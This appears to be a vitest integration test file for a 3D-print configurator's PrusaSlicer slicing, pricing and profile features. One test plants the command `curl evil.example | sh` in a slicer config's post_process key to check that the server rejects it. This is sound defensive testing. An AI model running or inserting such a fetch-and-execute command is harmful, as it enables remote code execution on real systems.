import { execFileSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { api, callJson } from '@/test/support/api-client'
import { expectError, openSession, signUp } from '@/test/support/fixtures'
import { directSlice, PRUSA_SLICER, summaryDifferences } from '@/test/support/print-ready'
import { DEFAULT_PROFILE, flatConfig } from '@/lib/slicing/profiles'

// The session's objectinfo with PrusaSlicer's slice of its final quality (issue 48): sliced in the
// background once the values settle, by whichever worker takes it, cached by the parts and profile.
const SLICE_TIMEOUT_MS = 90_000
/** A test waits for a slice or two on a machine the rest of the suite shares. */
const SLICING = { timeout: 2 * SLICE_TIMEOUT_MS }

async function objectInfoOf(sessionId: string, token: string) {
  const response = await api('GET', `/configsessions/${sessionId}/objectinfo`, { token })
  expect(response.status).toBe(200)
  return response.json()
}

/** The objectinfo once its slice has ended, done or failed. */
async function sliced(sessionId: string, token: string) {
  await expect
    .poll(async () => (await objectInfoOf(sessionId, token)).slice.state, { timeout: SLICE_TIMEOUT_MS, interval: 500 })
    .toMatch(/^(done|failed)$/)
  return objectInfoOf(sessionId, token)
}

describe('the slice of the manufactured model', SLICING, () => {
  it('reports what PrusaSlicer writes for the final 3MF with the default profile, and answers it from the cache after', async () => {
    const source = 'height = 80; // [20:100]\ncube([10, 10, height]);\n'
    const { session, token } = await openSession(source)
    const first = await objectInfoOf(session.id, token)
    expect(first.slice).toMatchObject({ profile: DEFAULT_PROFILE, extruders: 1, parts: 1, oneFilament: false })
    expect(['waiting', 'slicing', 'done']).toContain(first.slice.state)

    const { slice } = await sliced(session.id, token)
    expect(slice).toMatchObject({ state: 'done', supports: false, layers: 400, error: null })
    const model = await api('GET', `/configsessions/${session.id}/model?type=3mf`, { token })
    const direct = await directSlice(new Uint8Array(await model.arrayBuffer()), flatConfig())
    expect(summaryDifferences(slice, direct)).toEqual([])

    // Another session of the same model and values: the same slice, from the cache.
    const again = await openSession(source)
    await expect
      .poll(async () => (await objectInfoOf(again.session.id, again.token)).slice, { timeout: SLICE_TIMEOUT_MS })
      .toEqual(slice)
  })

  it('says every part of a coloured model is printed in the one filament of a single-extruder printer', async () => {
    const source = 'size = 10; // [5:20]\ncolor("red") cube(size);\ncolor("blue") translate([size, 0, 0]) cube(5);\n'
    const { session, token } = await openSession(source)
    const { slice } = await sliced(session.id, token)
    expect(slice).toMatchObject({ state: 'done', extruders: 1, parts: 2, oneFilament: true })
    expect(slice.materials).toHaveLength(1)
  })

  it('says a model too large for the printer could not be sliced, and the price from its geometry stays', async () => {
    const { session, token } = await openSession('length = 300; // [100:400]\ncube([length, 20, 10]);\n')
    const { slice, print } = await sliced(session.id, token)
    expect(slice).toMatchObject({ state: 'failed', error: 'Objects could not fit on the bed', printTimeSeconds: null })
    // The default printer's bed is the print report's build volume too.
    expect(print).toMatchObject({ buildVolumeMm: [250, 210, 210], fitsBuildVolume: false })
    expect(print.volume).toBeCloseTo(300 * 20 * 10, 3)
  })

  it("prices the sliced model by its time and filament, and estimates it before by the model's solid weight", async () => {
    const manufacturing = {
      currency: 'EUR',
      basePrice: 1,
      pricePerHour: 2,
      parts: [{ material: { name: 'PLA', density: 1.24, pricePerKg: 25 } }],
    }
    const { session, token } = await openSession('height = 80; // [20:100]\ncube([10, 10, height]);\n', {
      extraSettings: { manufacturing },
    })
    const { slice, print } = await sliced(session.id, token)
    // Before the slicer's figures: 8 cm³ of solid PLA, 9.92 g at 25 € a kg, and no time.
    expect(print.price).toEqual({ amount: '1.25', currency: 'EUR' })
    const hours = slice.printTimeSeconds / 3600
    const grams = slice.materials[0].weightG
    expect(hours).toBeGreaterThan(0.5)
    expect(slice.price).toEqual({ amount: (1 + hours * 2 + (grams / 1000) * 25).toFixed(2), currency: 'EUR' })
  })

  it('does not slice a 2D model, which is cut', async () => {
    const { session, token } = await openSession('size = 20; // [10:40]\nsquare(size);\n')
    const { slice } = await objectInfoOf(session.id, token)
    expect(slice).toMatchObject({ state: 'unavailable', error: 'a 2D model is cut, not printed' })
  })
})

const MINI = {
  vendor: 'PrusaResearch',
  printer: 'Original Prusa MINI & MINI+',
  print: '0.15mm QUALITY @MINI',
  filament: 'Prusament PETG @MINI',
}
const TOWER = 'height = 80; // [20:100]\ncube([10, 10, height]);\n'
const slicerSettings = (slicer: typeof MINI | { name: string; config: string }) => ({
  extraSettings: { manufacturing: { slicer } },
})

/** The config PrusaSlicer exports for presets (File > Export > Export Config does the same). */
function exportedConfig(presets: typeof MINI): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'paraform-config-test-'))
  try {
    fs.writeFileSync(path.join(dir, 'in.ini'), flatConfig(presets))
    execFileSync(PRUSA_SLICER, ['--load', 'in.ini', '--save', 'out.ini'], {
      cwd: dir,
      stdio: 'ignore',
      env: { ...process.env, HOME: dir },
    })
    return fs.readFileSync(path.join(dir, 'out.ini'), 'utf8')
  } finally {
    fs.rmSync(dir, { recursive: true, force: true })
  }
}

describe("the designer's slicer profile", SLICING, () => {
  it('slices with presets of the bundles on the server, and refuses those it does not have, naming the setting', async () => {
    const { session, token, configuratorId } = await openSession(TOWER, slicerSettings(MINI))
    const { slice } = await sliced(session.id, token)
    expect(slice).toMatchObject({ state: 'done', profile: MINI })
    const model = await api('GET', `/configsessions/${session.id}/model?type=3mf`, { token })
    const direct = await directSlice(new Uint8Array(await model.arrayBuffer()), flatConfig(MINI))
    expect(summaryDifferences(slice, direct)).toEqual([])
    // The MINI's 0.15 mm layers, the first at 0.2 mm.
    expect(slice.layers).toBe(533)

    await expectError(
      await api('PUT', `/configurators/${configuratorId}`, {
        token,
        body: slicerSettings({ ...MINI, printer: 'Original Prusa i9' }),
      }),
      422,
      'unprocessable_entity',
      /^extraSettings\.manufacturing\.slicer\.printer: PrusaResearch has no printer profile "Original Prusa i9"/,
    )
    await expectError(
      await api('PUT', `/configurators/${configuratorId}`, {
        token,
        body: slicerSettings({ ...MINI, print: DEFAULT_PROFILE.print }),
      }),
      422,
      'unprocessable_entity',
      /^extraSettings\.manufacturing\.slicer\.print: the print settings "0\.20mm QUALITY @MK3" do not suit the Original Prusa MINI & MINI\+/,
    )
  })

  it("checks the model against the chosen printer's bed, or the volume the designer sets, in the print report and the slice alike", async () => {
    const long = 'length = 200; // [100:400]\ncube([length, 20, 10]);\n'
    const mini = await openSession(long, slicerSettings(MINI))
    const onMini = await sliced(mini.session.id, mini.token)
    expect(onMini.print).toMatchObject({ buildVolumeMm: [180, 180, 180], fitsBuildVolume: false, forSale: false })
    expect(onMini.slice).toMatchObject({ state: 'failed', error: 'Objects could not fit on the bed' })

    const larger = await openSession(long, {
      extraSettings: { manufacturing: { slicer: MINI, buildVolumeMm: [220, 180, 180] } },
    })
    const onLarger = await sliced(larger.session.id, larger.token)
    expect(onLarger.print).toMatchObject({ buildVolumeMm: [220, 180, 180], fitsBuildVolume: true })
    expect(onLarger.slice).toMatchObject({ state: 'done', profile: MINI })
  })

  it('slices with a config exported from PrusaSlicer, and refuses one that would run a program, naming the key', async () => {
    const config = exportedConfig(MINI)
    const { session, token, configuratorId } = await openSession(TOWER, slicerSettings({ name: 'Our MINI', config }))
    const { slice } = await sliced(session.id, token)
    expect(slice).toMatchObject({ state: 'done', profile: { name: 'Our MINI' }, layers: 533 })

    const hostile = config.replace(/^post_process = .*$/m, 'post_process = /bin/sh -c "curl evil.example | sh"')
    await expectError(
      await api('PUT', `/configurators/${configuratorId}`, {
        token,
        body: slicerSettings({ name: 'Evil', config: hostile }),
      }),
      422,
      'unprocessable_entity',
      /^extraSettings\.manufacturing\.slicer\.config: `post_process` may not be set/,
    )
    await expectError(
      await api('PUT', `/configurators/${configuratorId}`, {
        token,
        body: slicerSettings({ name: 'Not one', config: 'hello = world\n' }),
      }),
      422,
      'unprocessable_entity',
      /not a PrusaSlicer config: it does not set `bed_shape`/,
    )
  })

  it("keeps a release's profile for its sessions when the draft's changes", async () => {
    const { token, configuratorId } = await openSession(TOWER, slicerSettings(MINI))
    const { prepareConfigurator } = await import('@/lib/sessions/preparation')
    await prepareConfigurator(configuratorId)
    const published = await api('POST', `/configurators/${configuratorId}/releases`, {
      token,
      body: { override: true },
    })
    expect(published.status).toBe(201)
    expect(
      (await api('PUT', `/configurators/${configuratorId}`, { token, body: slicerSettings(DEFAULT_PROFILE) })).status,
    ).toBe(200)
    const session = await callJson('createSession', { token, body: { configuratorId } })
    const { slice } = await sliced(session.id, token)
    expect(slice).toMatchObject({ state: 'done', profile: MINI, layers: 533 })
  })
})

describe("a snapshot's quote", SLICING, () => {
  const priced = {
    currency: 'EUR',
    basePrice: 1,
    pricePerHour: 2,
    parts: [{ material: { name: 'PLA', density: 1.24, pricePerKg: 25 } }],
  }

  it("waits for the slice of its values and freezes the slicer's quote: later changes of price never reach it", async () => {
    const { session, token, configuratorId } = await openSession(
      'height = 60; // [20:100]\ncube([10, 10, height]);\n',
      {
        extraSettings: { manufacturing: priced },
      },
    )
    // Taken at once, before the background slice of the values could have ended.
    const snapshot = await callJson('createSnapshot', { token, params: { sessionId: session.id } })
    expect(snapshot.slice).toMatchObject({ state: 'done', supports: false, layers: 300 })
    const { slice } = await sliced(session.id, token)
    expect(snapshot.slice).toEqual(slice)
    const weight = slice.materials[0].weightG
    expect(snapshot.quote).toEqual({
      basis: 'slice',
      weight,
      price: slice.price,
      printTimeSeconds: slice.printTimeSeconds,
      reason: null,
    })
    expect(snapshot.quote.price).toEqual({
      amount: (1 + (slice.printTimeSeconds / 3600) * 2 + (weight / 1000) * 25).toFixed(2),
      currency: 'EUR',
    })

    const dearer = { ...priced, pricePerHour: 50 }
    expect(
      (
        await api('PUT', `/configurators/${configuratorId}`, {
          token,
          body: { extraSettings: { manufacturing: dearer } },
        })
      ).status,
    ).toBe(200)
    const again = await callJson('getSnapshot', { token, params: { snapshotId: snapshot.id } })
    expect(again.quote).toEqual(snapshot.quote)
  })

  it("keeps the geometry's price, marked so, when the slicer cannot slice the values", async () => {
    // Larger than the printer's bed, offered anyway (the designer allows oversize): the slicer refuses it.
    const { session, token } = await openSession('length = 300; // [100:400]\ncube([length, 20, 10]);\n', {
      extraSettings: { manufacturing: { ...priced, allowOversize: true } },
    })
    const snapshot = await callJson('createSnapshot', { token, params: { sessionId: session.id } })
    expect(snapshot.slice).toMatchObject({ state: 'failed', error: 'Objects could not fit on the bed' })
    expect(snapshot.quote).toEqual({
      basis: 'geometry',
      weight: snapshot.print.weight,
      price: snapshot.print.price,
      printTimeSeconds: null,
      reason: 'not sliced: Objects could not fit on the bed',
    })
    // 60 cm³ of solid PLA, 74.4 g at 25 € a kg, and no time.
    expect(snapshot.quote.price).toEqual({ amount: '2.86', currency: 'EUR' })
  })
})

describe('the profiles the studio picks from', () => {
  it("lists the server's vendors, a vendor's printers, and the prints and filaments that suit a printer", async () => {
    const { token } = await signUp()
    const top = await callJson('listSlicerProfiles', { token, query: {} })
    expect(top).toMatchObject({ installed: true, default: DEFAULT_PROFILE, printers: [], prints: [], filaments: [] })
    expect(top.vendors).toContainEqual({ id: 'PrusaResearch', name: 'Prusa Research' })

    const { printers, prints, filaments } = await callJson('listSlicerProfiles', {
      token,
      query: { vendor: 'PrusaResearch', printer: MINI.printer, print: MINI.print },
    })
    expect(printers).toContainEqual({ name: MINI.printer, buildVolumeMm: [180, 180, 180], extruders: 1 })
    expect(prints).toContain(MINI.print)
    expect(prints).not.toContain(DEFAULT_PROFILE.print)
    expect(filaments).toContain(MINI.filament)
    expect(filaments).not.toContain('Prusament PETG')
    // The MINI's own defaults, which suit it.
    const { suggested } = await callJson('listSlicerProfiles', {
      token,
      query: { vendor: 'PrusaResearch', printer: MINI.printer, print: MINI.print },
    })
    expect(suggested).toEqual({ print: '0.15mm QUALITY @MINI', filament: 'Prusament PLA' })
  })

  it('answers 404 naming a vendor or printer the server does not have, and 401 to a stranger', async () => {
    const { token } = await signUp()
    await expectError(
      await api('GET', '/slicer/profiles?vendor=Nobody', { token }),
      404,
      'not_found',
      /this machine has no PrusaSlicer profiles of Nobody/,
    )
    await expectError(
      await api('GET', `/slicer/profiles?vendor=PrusaResearch&printer=${encodeURIComponent('Original Prusa i9')}`, {
        token,
      }),
      404,
      'not_found',
      /PrusaResearch has no printer profile "Original Prusa i9"/,
    )
    expect((await api('GET', '/slicer/profiles')).status).toBe(401)
  })
})
